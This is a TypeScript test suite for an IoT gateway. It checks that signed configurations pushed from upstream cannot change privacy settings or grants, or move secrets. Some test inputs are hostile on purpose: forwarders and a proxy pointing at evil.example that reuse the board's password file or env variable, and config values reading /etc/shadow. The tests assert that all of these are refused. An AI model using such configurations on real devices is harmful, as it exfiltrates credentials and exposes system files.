/** What a signed text may not do: read through the loader of the program, and answered as upstream hears it. */
import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import test, { type TestContext } from 'node:test';
import { readConfig } from '../../../src/cli/config-file.ts';
import { baseOf, loadUpstream, pushedAt, pushedProfiles, readUpstream } from '../../../src/cli/pushed-config.ts';
import type { Base } from '../../../src/configure/base.ts';
import { Configure } from '../../../src/configure/configure.ts';
import { digestOf, PushStore } from '../../../src/configure/record.ts';
import { configureSecret, makeConfigureSecret, signConfiguration } from '../../../src/core/configure-keys.ts';
import { SluiceError } from '../../../src/core/errors.ts';
import { ManualClock } from '../../fakes/manual-clock.ts';
import { FakeBoard } from '../../harness/fake-board.ts';
import { scratch } from '../../harness/scratch.ts';

const KEY = makeConfigureSecret();
const SECRET = configureSecret(KEY.pem)?.sign;
assert.ok(SECRET !== undefined);

const FILE = `gateway: {id: g1, stateDir: state, configure: {keys: ['${KEY.key.text}']}}
buses: {plant: {protocol: modbus-tcp, host: 127.0.0.1}}
devices:
  meter:
    bus: plant
    unit: 1
    privacy: household
    points: {power: {address: 1, table: holding, type: uint16}, flow: {address: 2, table: holding, type: uint16, privacy: technical}}
privacy: {household: {upstream: {aggregate: 15m}}}
broker: {listen: {host: 127.0.0.1, port: 1883}, commands: {operator: {ack: ['*']}}}
forwarders:
  cloud:
    type: mqtt
    url: mqtts://broker.example.org
    purpose: billing
    username: site
    password: {file: cloud.secret}
    commands: {configure: true}
  local: {type: mqtt, url: mqtt://10.0.0.1, username: {env: SITE_USER}}
`;

/** Sends texts to a board with this file, each as a version of its own. */
function board(t: TestContext, file = FILE) {
  const folder = scratch(t, 'bounds');
  const config = path.join(folder, 'gateway.yaml');
  writeFileSync(path.join(folder, 'cloud.secret'), 'hunter2\n', { mode: 0o600 });
  process.env.SITE_USER = 'u';
  writeFileSync(config, file);
  return boardAt(config, path.join(folder, 'config'));
}

function baseIn(config: string): Base {
  const read = readConfig(config);
  const base = baseOf(read);
  assert.ok(base !== undefined, JSON.stringify(read.faults));
  return base;
}

function boardAt(config: string, records: string, forwarder = 'cloud') {
  const base = baseIn(config);
  const clock = new ManualClock();
  const store = new PushStore(records);
  const begin = () => {
    const made = new Configure({
      ...{ clock, store, record: { floor: 0 }, notices: [], base, ranWell: () => {} },
      logger: { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never,
      load: (text, secrets) => loadUpstream(text, config, secrets),
    });
    made.begin({ config: base.config, now: () => 1, health: () => ({ forwarders: [], buses: [] }), tell: () => {} } as never);
    return made;
  };
  return async (yaml: string): Promise<string> => {
    const signature = signConfiguration(
      { gateway: base.config.gateway.id, version: 1, expires: undefined, yaml },
      SECRET as never,
    );
    const later = { id: 'a', owner: `forwarder:${forwarder}` };
    const configure = begin();
    try {
      const { state } = await configure.run({ do: 'configure', version: 1, yaml, signature }, { later });
      return state;
    } catch (thrown) {
      assert.ok(thrown instanceof SluiceError, String(thrown));
      return `${thrown.code}: ${thrown.message}`;
    } finally {
      configure.stop();
    }
  };
}

const change = (from: string | RegExp, to: string, text = FILE): string => {
  const changed = text.replace(from, to);
  assert.notEqual(changed, text, String(from));
  return changed;
};

test('a secret goes only where the file on the board sends it', async (t) => {
  const ask = board(t);
  const refused: [string, RegExp][] = [
    [
      `${FILE}  thief: {type: mqtt, url: mqtt://evil.example, password: {file: cloud.secret}, username: x}\n`,
      /at forwarders.thief.password/,
    ],
    [
      `${FILE}  thief: {type: mqtt, url: mqtt://evil.example, username: {env: SITE_USER}}\n`,
      /env SITE_USER is not named .* at forwarders.thief.username/,
    ],
    [change('10.0.0.1', '10.0.0.2'), /forwarders.local takes secrets from the board/],
    [change('url: mqtt://10.0.0.1', "url: ['mqtt://10.0.0.1', 'mqtt://10.0.0.2']"), /forwarders.local takes secrets/],
    [change('mqtt://10.0.0.1,', "mqtt://10.0.0.1, proxy: 'http://evil.example:3128',"), /forwarders.local takes secrets/],
    [change('mqtts://broker', 'mqtt://broker'), /forwarders.cloud takes secrets/],
    [
      change('purpose: billing', `tls: {fingerprint: '${'ab'.repeat(32)}'}, purpose: billing`.replace(', ', '\n    ')),
      /forwarders.cloud takes secrets/,
    ],
    [change('username: site', 'username: {file: cloud.secret}'), /cloud.secret is not named .* at forwarders.cloud.username/],
  ];
  for (const [text, words] of refused) {
    const answer = await ask(text);
    assert.match(answer, /^configure-refused/, text);
    assert.match(answer, words);
  }
  assert.equal(await ask(FILE), 'trial');
  assert.equal(await ask(change('mqtt://10.0.0.1', 'mqtt://10.0.0.1:1884')), 'trial');
  const open = change(', username: {env: SITE_USER}', '');
  assert.equal(await board(t, open)(change('10.0.0.1', '10.0.0.2', open)), 'trial', 'without a secret the address may change');
});

test('privacy, purposes and grants are those of the file on the board', async (t) => {
  const ask = board(t);
  const refused: [string, RegExp][] = [
    [change(/^privacy: .*\n/m, ''), /privacy changes only in the file on the board/],
    [change('aggregate: 15m', 'aggregate: 1m'), /privacy changes only/],
    [change('    privacy: household\n', ''), /the privacy class of meter.\* is household/],
    [change('power: {address: 1,', 'power: {address: 1, privacy: technical,'), /class of meter.power is household/],
    [
      change('power: {address: 1,', 'more: {address: 9, privacy: technical, table: holding, type: uint16}, power: {address: 1,'),
      /class of meter.more/,
    ],
    [change('purpose: billing', 'purpose: sale'), /forwarders.cloud.purpose changes only/],
    [
      change('{type: mqtt, url: mqtt://10', '{purpose: sale, type: mqtt, url: mqtt://10'),
      /forwarders.local.purpose changes only/,
    ],
    [`${FILE}  more: {type: mqtt, url: mqtt://10.0.0.9, purpose: sale}\n`, /forwarders.more.purpose .*leave it out/],
    [`${FILE}  more: {type: mqtt, url: mqtt://10.0.0.9, commands: {reload: true}}\n`, /forwarders.more.commands .*leave it out/],
    [change('{configure: true}', '{configure: true, reload: true}'), /forwarders.cloud.commands changes only/],
    [change("ack: ['*']", "ack: ['*'], shelve: ['*']"), /broker.commands changes only/],
    [change("{operator: {ack: ['*']}}", '{}'), /broker.commands changes only/],
  ];
  for (const [text, words] of refused) {
    const answer = await ask(text);
    assert.match(answer, /^configure-refused/, text);
    assert.match(answer, words);
  }
  assert.equal(await ask(change(', flow: {address: 2, table: holding, type: uint16, privacy: technical}', '')), 'trial');
  const plain = change(/^(?: {4})?privacy: .*\n/gm, '').replace(', privacy: technical', '');
  const stricter = change('    unit: 1\n', '    unit: 1\n    privacy: health\n', plain);
  assert.equal(await board(t, plain)(stricter), 'trial', 'a point without a class may get one');
});

test('a signed text learns nothing of files and variables that the board does not name', async (t) => {
  const ask = board(t);
  const curious = (source: string) => change('{file: cloud.secret}', source);
  for (const source of ['{file: /no/such/file}', '{file: /etc/shadow}', '{file: /etc/hostname}', '{env: NO_SUCH_VARIABLE}']) {
    const answer = await ask(curious(source));
    assert.match(answer, /^configure-refused: .*(file|env) \S+ is not named in the file on the board/, source);
    assert.doesNotMatch(answer, /there is no|has no variable|may not read|is empty/);
  }
});

test('a board from a card takes a signed text that does not know the file of its password', async (t) => {
  const folder = scratch(t, 'card');
  const card = new FakeBoard(folder);
  const url = 'mqtts://broker.example.org';
  card.write(`upstream: {url: '${url}', username: ghat-1, password: first, configureKey: '${KEY.key.text}'}\n`);
  assert.equal(card.start().outcome, 'applied');
  const ask = boardAt(card.config, path.join(card.stateDir, 'config'), 'upstream');
  assert.match(card.yaml, /upstream-password-[0-9a-f]{8}/);
  const text = card.yaml.replace(/\S*upstream-password-[0-9a-f]{8}\S*/, 'board:same');
  assert.match(text, /file: board:same/);
  assert.equal(await ask(text), 'trial');
  assert.equal(await ask(`\ufeff${text.replaceAll('\n', '\r\n')}`), 'trial');
  assert.match(await ask(text.replace('broker.example.org', 'evil.example')), /takes secrets from the board/);
  assert.match(
    await ask(text.replace('username: ghat-1', 'username: {file: board:same}')),
    /names no file at .*upstream.username/,
  );
  const kept = loadUpstream({ yaml: text, version: 1, base: baseIn(card.config) }, card.config, true);
  assert.ok(kept.faults === undefined);
  const settings = kept.config.forwarders.get('upstream')?.settings as { password: { fresh(): string } };
  assert.equal(settings.password.fresh(), 'first');
  assert.match(kept.ran.text, /upstream-password-[0-9a-f]{8}/, 'the last good configuration stands for itself');
});

test('a board whose record is damaged says so, and what ends it', (t) => {
  const folder = scratch(t, 'damaged');
  const state = path.join(folder, 'state');
  mkdirSync(path.join(state, 'config'), { recursive: true });
  for (const name of ['upstream.json', 'upstream-copy.json']) writeFileSync(path.join(state, 'config', name), '{');
  const pushed = pushedAt(path.join(folder, 'gateway.yaml'), state, undefined);
  assert.match(pushed.notices.join(), /record .* is damaged .* remove both files on the board, then restart/);
  const told: string[] = [];
  const made = new Configure({
    ...{ ...pushed, clock: new ManualClock(), ranWell: () => {} },
    logger: { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never,
    load: () => ({ faults: [] }),
  });
  made.begin({ now: () => 1, tell: ({ message }: { message: string }) => void told.push(message) } as never);
  assert.match(told.join(), /damaged/);
  assert.equal(pushed.store.read(), 'damaged', 'nothing is written over it');
});

test('faults of a text from upstream name its version, and a backup has its profiles', async (t) => {
  const folder = scratch(t, 'profiles');
  const config = path.join(folder, 'gateway.yaml');
  writeFileSync(path.join(folder, 'cloud.secret'), 'hunter2\n', { mode: 0o600 });
  process.env.SITE_USER = 'u';
  writeFileSync(config, FILE);
  const base = baseIn(config);
  const { faults } = readUpstream({ yaml: `${FILE}x: 1\n`, version: 7, base }, config, {
    readSecrets: false,
    secretsLater: true,
  });
  assert.deepEqual(
    faults.map(({ file }) => file),
    ['version 7'],
  );
  const profile = path.join(folder, 'profiles', 'own.yaml');
  mkdirSync(path.dirname(profile));
  writeFileSync(
    profile,
    'vendor: Test\nmodel: T1\ntitle: test device\nsources: [a test]\nfamily: modbus\npoints: {level: {table: holding, address: 1, type: uint16}}\n',
  );
  const yaml = change('  meter:\n', '  more: {bus: plant, unit: 2, profile: own}\n  meter:\n');
  const store = new PushStore(path.join(folder, 'state', 'config'));
  await store.writeText(7, yaml);
  const about = { version: 7, sha256: digestOf(yaml), base: digestOf(FILE), key: 'k', forwarder: 'cloud', time: 1 };
  await store.write({ floor: 7, current: about });
  assert.deepEqual(pushedProfiles(config, path.join(folder, 'state'), base), [profile]);
});

test('a text that one version of the program cannot use waits for one that can', async (t) => {
  const folder = scratch(t, 'aside');
  const config = path.join(folder, 'gateway.yaml');
  const state = path.join(folder, 'state');
  writeFileSync(path.join(folder, 'cloud.secret'), 'hunter2\n', { mode: 0o600 });
  process.env.SITE_USER = 'u';
  writeFileSync(config, FILE);
  const yaml = change('unit: 1', 'unit: 3');
  // To this program a release before it is one that knows a key more.
  const newer = `${yaml}future: 1\n`;
  const kept = { version: 7, sha256: digestOf(newer), base: digestOf(FILE), key: 'k', forwarder: 'cloud', time: 1 };
  const store = new PushStore(path.join(state, 'config'));
  await store.writeText(7, newer);
  await store.write({ floor: 7, current: kept });

  const start = () => {
    const pushed = pushedAt(config, state, baseIn(config));
    const said: string[] = [];
    const configure = new Configure({
      ...{ ...pushed, clock: new ManualClock(), ranWell: () => {} },
      logger: { info: () => {}, warn: () => {}, error: () => {}, debug: () => {} } as never,
      load: (text, secrets) => loadUpstream(text, config, secrets),
    });
    configure.begin({
      now: () => 1,
      tell: ({ message }: { message: string }) => void said.push(message),
      republish: () => {},
    } as never);
    return { pushed, said, configure };
  };
  const refused = start();
  await refused.configure.written;
  assert.equal(refused.pushed.inForce, undefined);
  assert.match(refused.said.join(), /Version 7 cannot be used any more: .*future.* The file on the board is in force\./);
  assert.deepEqual(
    [refused.configure.report().origin, refused.configure.report().last?.outcome, refused.configure.report().version],
    ['file', 'replaced', undefined],
  );
  // A person who reads the same file again takes nothing away.
  const texts: unknown[] = [];
  await refused.configure.reading(baseIn(config), async (text) => void texts.push(text));
  assert.deepEqual(texts, [undefined]);
  assert.equal(store.text(kept), newer);

  const known = store.read();
  assert.ok(known !== 'damaged' && known.current !== undefined);
  await store.writeText(7, yaml);
  await store.write({ ...known, current: { ...kept, sha256: digestOf(yaml) } });
  const again = start();
  await again.configure.written;
  assert.match(again.said.join(), /Version 7 can be used again and is in force\./);
  assert.equal(again.pushed.inForce?.config.devices.get('meter')?.name, 'meter');
  const { origin, version, last } = again.configure.report();
  assert.deepEqual([origin, version, last?.outcome], ['upstream', 7, 'confirmed']);
  assert.deepEqual(start().said, [], 'it is said once');

  // A changed file is the last word, also over a text that is set aside.
  await store.writeText(7, newer);
  await store.write({ floor: 7, current: kept });
  const aside = start();
  writeFileSync(config, FILE.replace('unit: 1', 'unit: 9'));
  await aside.configure.reading(baseIn(config), async () => {});
  await aside.configure.written;
  const after = store.read();
  assert.ok(after !== 'damaged' && after.current === undefined);
});
